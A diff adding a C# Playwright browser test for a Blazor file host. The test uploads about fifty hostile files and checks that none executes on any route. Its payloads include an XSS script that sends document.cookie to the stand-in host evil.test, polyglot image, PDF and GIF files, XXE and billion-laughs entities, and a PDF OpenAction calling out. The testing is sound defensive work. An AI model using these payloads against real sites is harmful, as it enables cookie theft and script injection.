@@ -1,0 +1,232 @@
+using System.Collections.Concurrent;
+using System.Net;
+using System.Text;
+using Microsoft.Playwright;
+
+namespace BlazorFileHost.Tests.Browser;
+
+/// <summary>Files that would like to be a page of ours, opened in Chromium by somebody who is signed in.</summary>
+public sealed class HostileFilesTests : IAsyncLifetime
+{
+    /// <summary>Whatever runs asks for an address with this word, here and elsewhere, and opens a dialog.</summary>
+    private const string Canary = "canary-was-here";
+
+    private const string Script = $"document.title='{Canary}';fetch('/{Canary}?fetch');new Image().src='http://evil.test/{Canary}?'+document.cookie;top.location.hash='{Canary}';alert('{Canary}')";
+    private const string Page = $"<!doctype html><html><body><img src=/{Canary}?html><script>{Script}</script></body></html>";
+    private const string Svg = $"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload=\"{Script}\"><script>{Script}</script>"
+        + $"<image xlink:href='/{Canary}?svg'/><a xlink:href='javascript:{Script}'><text>x</text></a><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=\"{Script}\"/></foreignObject></svg>";
+
+    private static readonly string[] Questions = ["", "?inline=1", "?download=0", "?type=text/html", "?content-type=text/html&response-content-type=text/html&response-content-disposition=inline"];
+
+    private readonly Chromium chromium = new();
+    private RunningApp app = null!;
+
+    private static string Extensions => string.Join(' ', Files().Select(file => file.Name[(file.Name.LastIndexOf('.') + 1)..]).Distinct());
+
+    public async Task InitializeAsync()
+    {
+        if (Chromium.Path is null && Environment.GetEnvironmentVariable("CI") != "true")
+        {
+            return;
+        }
+
+        await chromium.InitializeAsync();
+        app = await RunningApp.StartAsync(new() { ["Files:AllowedExtensions"] = Extensions });
+    }
+
+    public async Task DisposeAsync()
+    {
+        if (app is not null)
+        {
+            await chromium.DisposeAsync();
+            await app.DisposeAsync();
+        }
+    }
+
+    [BrowserFact, Trait("Battery", "XSS-01"), Trait("Battery", "CNT-03"), Trait("Battery", "CNT-09"), Trait("Battery", "CNT-14"), Trait("Battery", "XSS-08")]
+    public async Task None_of_them_runs_on_any_route()
+    {
+        using var person = await Person.SignedUpAsync(app);
+        await using var context = await chromium.PersonAsync(app.Address);
+        var heard = new ConcurrentQueue<string>();
+        context.Request += (_, request) => Hear(request.Url);
+        context.Dialog += (_, dialog) =>
+        {
+            heard.Enqueue($"dialog {dialog.Message}");
+            _ = dialog.DismissAsync();
+        };
+        await context.RouteAsync("http://evil.test/**", route => route.FulfillAsync(new() { Body = "" }));
+        // One that scripts can read, beside the session's own that they cannot.
+        await context.AddCookiesAsync([.. person.Cookies.Split("; ").Select(pair => new Cookie { Name = pair.Split('=', 2)[0], Value = pair.Split('=', 2)[1], Url = app.Address.ToString(), HttpOnly = true, SameSite = SameSiteAttribute.Lax }),
+            new() { Name = "readable", Value = Canary, Url = app.Address.ToString() }]);
+
+        var files = new List<(string Name, Guid Id)>();
+        foreach (var (name, bytes) in Files())
+        {
+            files.Add((name, (await person.UploadedAsync(name, bytes)).Id));
+        }
+
+        Assert.InRange(files.Count, 40, 80);
+
+        // Every route and question, as a program sees them: an attachment, or a type that cannot run under a policy that lets nothing run.
+        foreach (var (name, id) in files)
+        {
+            foreach (var address in Addresses(id))
+            {
+                using var answer = await person.Client.GetPageAsync(address);
+                var policy = string.Join(';', answer.Headers.GetValues("Content-Security-Policy"));
+                var shown = answer.Content.Headers.ContentDisposition?.DispositionType;
+                Assert.Equal("nosniff", Assert.Single(answer.Headers.GetValues("X-Content-Type-Options")));
+                if (answer.StatusCode == HttpStatusCode.NotFound)
+                {
+                    Assert.Contains("/view", address, StringComparison.Ordinal);
+                    continue;
+                }
+
+                Assert.True(answer.StatusCode == HttpStatusCode.OK && policy.StartsWith("sandbox", StringComparison.Ordinal)
+                    && policy.Contains("default-src 'none'", StringComparison.Ordinal) && !policy.Contains("allow-scripts", StringComparison.Ordinal)
+                    && (shown == "attachment" || (shown == "inline" && answer.Content.Headers.ContentType!.MediaType is "text/plain" or "image/png" or "image/gif" or "image/jpeg" or "application/pdf")),
+                    $"{name} {address}: {(int)answer.StatusCode} {shown} {answer.Content.Headers.ContentType} {policy}");
+            }
+        }
+
+        // In the browser: typed as an address, with and without questions.
+        var page = await context.NewPageAsync();
+        foreach (var (name, id) in files)
+        {
+            foreach (var address in new[] { $"/files/{id}", $"/files/{id}/view", $"/files/{id}/view{Questions[^1]}" })
+            {
+                try
+                {
+                    await page.GotoAsync(address, new() { WaitUntil = WaitUntilState.Load });
+                }
+                catch (PlaywrightException saved) when (saved.Message.Contains("Download is starting", StringComparison.Ordinal) || saved.Message.Contains("ERR_ABORTED", StringComparison.Ordinal))
+                {
+                    // An attachment.
+                }
+
+                Assert.True(heard.IsEmpty, $"{name} {address}: {string.Join(", ", heard)}");
+            }
+        }
+
+        // As a part of our own page, as if somebody had got markup into it: in a frame, as an object, a picture, a script, a style, a worker.
+        await page.GotoAsync("/account/manage");
+        foreach (var (name, id) in files)
+        {
+            await page.EvaluateAsync(
+                """
+                async addresses => {
+                    const settled = addresses.flatMap(address => [['iframe', 'src'], ['img', 'src'], ['script', 'src'], ['video', 'src'], ['object', 'data'], ['embed', 'src'], ['link', 'href']].map(([kind, where]) => new Promise(done => {
+                        const element = document.createElement(kind);
+                        if (kind === 'link') element.rel = 'stylesheet';
+                        element.addEventListener('load', done);
+                        element.addEventListener('error', done);
+                        element.addEventListener('loadedmetadata', done);
+                        // What a policy keeps out says neither, nor does a frame whose content is saved.
+                        if (['object', 'embed', 'iframe'].includes(kind)) setTimeout(done, 300);
+                        element[where] = address;
+                        document.body.append(element);
+                    })));
+                    settled.push(navigator.serviceWorker.register(addresses[0]).catch(() => {}));
+                    settled.push(navigator.serviceWorker.register(addresses[1]).catch(() => {}));
+                    settled.push(import(addresses[0]).catch(() => {}));
+                    await Promise.all(settled);
+                }
+                """, new[] { $"/files/{id}", $"/files/{id}/view" });
+            Assert.True(heard.IsEmpty, $"{name} embedded: {string.Join(", ", heard)}");
+        }
+
+        Assert.DoesNotContain(Canary, await page.TitleAsync(), StringComparison.Ordinal);
+        Assert.DoesNotContain(Canary, page.Url, StringComparison.Ordinal);
+
+        // The net catches: the same page, given as one, does all of it.
+        await context.RouteAsync("**/as-a-page", route => route.FulfillAsync(new() { ContentType = "text/html", Body = Page }));
+        await page.GotoAsync("/as-a-page");
+        await Eventually.TrueAsync(() => heard.Any(each => each.Contains("evil.test", StringComparison.Ordinal) && each.Contains("readable", StringComparison.Ordinal))
+            && heard.Any(each => each.StartsWith("dialog", StringComparison.Ordinal)), "the canary is heard");
+
+        void Hear(string url)
+        {
+            if (url.Contains(Canary, StringComparison.Ordinal) && !url.StartsWith("data:", StringComparison.Ordinal))
+            {
+                heard.Enqueue(url);
+            }
+        }
+    }
+
+    private static IEnumerable<string> Addresses(Guid id)
+        => from route in new[] { $"/files/{id}", $"/files/{id}/view" } from question in Questions select route + question;
+
+    private static IEnumerable<(string Name, byte[] Bytes)> Files()
+    {
+        var page = Encoding.UTF8.GetBytes(Page);
+        foreach (var ending in new[] { "html", "htm", "xhtml", "xht", "shtml", "hta", "php", "svg", "mht", "foo", "aspx", "htc", "jsp" })
+        {
+            yield return ($"page.{ending}", ending == "svg" ? Encoding.UTF8.GetBytes(Svg) : page);
+        }
+
+        foreach (var (name, text) in new (string, string)[]
+        {
+            ("strict.xhtml", $"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>{Script.Replace("&", "&amp;", StringComparison.Ordinal)}</script></html>"),
+            ("styled.xml", $"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#s'?><xsl:stylesheet id='s' version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><script>{Script}</script></xsl:template></xsl:stylesheet>"),
+            ("entity.xml", $"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM '/{Canary}?entity'>]><a xmlns:h='http://www.w3.org/1999/xhtml'>&x;<h:script>{Script}</h:script></a>"),
+            ("sheet.xsl", $"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><script>{Script}</script></xsl:template></xsl:stylesheet>"),
+            ("laughs.svg", $"<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]>{Svg}"),
+            ("feed.rss", $"<rss version='2.0'><channel><title><![CDATA[{Page}]]></title></channel></rss>"),
+            ("feed.atom", $"<feed xmlns='http://www.w3.org/2005/Atom'><content type='html'><![CDATA[{Page}]]></content></feed>"),
+            ("map.rdf", $"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><h:script xmlns:h='http://www.w3.org/1999/xhtml'>{Script}</h:script></rdf:RDF>"),
+            ("letter.eml", $"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{Page}"),
+            ("archive.mhtml", $"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{Page}\r\n--b--"),
+            ("script.js", Script),
+            ("module.mjs", $"{Script};export default 1"),
+            ("worker.js", $"self.addEventListener('fetch',e=>e.respondWith(new Response('x')));fetch('/{Canary}?worker')"),
+            ("style.css", $"@import '/{Canary}?import';body{{background:url(/{Canary}?style)}}"),
+            ("subtitles.vtt", $"WEBVTT\n\n00:00.000 --> 00:10.000\n<script>{Script}</script>"),
+            ("book.md", $"{Page}\n[a](javascript:{Script}) <img src=/{Canary}?md onerror={Script}>"),
+            ("data.json", $"{{\"a\":\"{Page.Replace("\"", "'", StringComparison.Ordinal)}\"}}"),
+            ("app.webmanifest", $"{{\"start_url\":\"/{Canary}\"}}"),
+            ("shortcut.url", $"[InternetShortcut]\r\nURL=javascript:{Script}"),
+            ("page.txt", Page),
+            ("page.log", Page),
+            ("table.csv", $"=HYPERLINK(\"/{Canary}\"),{Page}"),
+            ("spaces.txt", new string(' ', 4096) + Page),
+            ("seven.txt", $"+ADw-script+AD4-{Script}+ADw-/script+AD4-"),
+            ("movie.mp4", Page),
+            ("sound.ogg", Page),
+            ("film.webm", Page),
+            ("picture.webp", Page),
+        })
+        {
+            yield return (name, Encoding.UTF8.GetBytes(text));
+        }
+
+        yield return ("wide.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Page)]);
+        yield return ("wide.html", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Page)]);
+        yield return ("behind.png", [.. Samples.Bytes("png", 1), .. page]);
+        yield return ("comment.jpg", [.. Samples.Bytes("jpg", 1)[..20], 0xFF, 0xFE, .. BitConverter.GetBytes((ushort)(page.Length + 2)).Reverse(), .. page, .. Samples.Bytes("jpg", 1)[20..]]);
+        yield return ("variable.gif", [.. "GIF89a=1;"u8, .. Encoding.UTF8.GetBytes(Script), .. "//"u8]);
+        yield return ("gifar.gif", [.. Samples.Bytes("gif", 1), .. Samples.Zip(("META-INF/MANIFEST.MF", page), ("a.class", [0xCA, 0xFE]))]);
+        yield return ("drawing.svgz", Gzipped(Encoding.UTF8.GetBytes(Svg)));
+        yield return ("flash.swf", [.. "FWS\x05"u8, 0, 0, 0, 0, .. page]);
+        yield return ("book.epub", Samples.Zip(("mimetype", "application/epub+zip"u8.ToArray()), ("a.xhtml", page)));
+        yield return ("program.wasm", [0, .. "asm"u8, 1, 0, 0, 0]);
+        yield return ("template.docx", Samples.Zip(("[Content_Types].xml", page), ("word/document.xml", page),
+            ("word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes($"<Relationships><Relationship Target='http://evil.test/{Canary}' TargetMode='External'/></Relationships>"))));
+        yield return ("before.pdf", [.. Encoding.UTF8.GetBytes($"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n{Page}\n")[..600], .. Samples.Bytes("pdf", 1)]);
+        yield return ("action.pdf", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Samples.Bytes("pdf", 2))
+            .Replace("<</Type/Catalog", $"<</OpenAction<</S/URI/URI(http://evil.test/{Canary})>>/Type/Catalog", StringComparison.Ordinal)));
+        yield return ("script.pdf", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Samples.Bytes("pdf", 3))
+            .Replace("<</Type/Catalog", $"<</OpenAction<</S/JavaScript/JS(app.alert\\('{Canary}'\\);app.launchURL\\('http://evil.test/{Canary}'\\))>>/Type/Catalog", StringComparison.Ordinal)));
+    }
+
+    private static byte[] Gzipped(byte[] bytes)
+    {
+        using var packed = new MemoryStream();
+        using (var gzip = new System.IO.Compression.GZipStream(packed, System.IO.Compression.CompressionLevel.Fastest))
+        {
+            gzip.Write(bytes);
+        }
+
+        return packed.ToArray();
+    }
+}
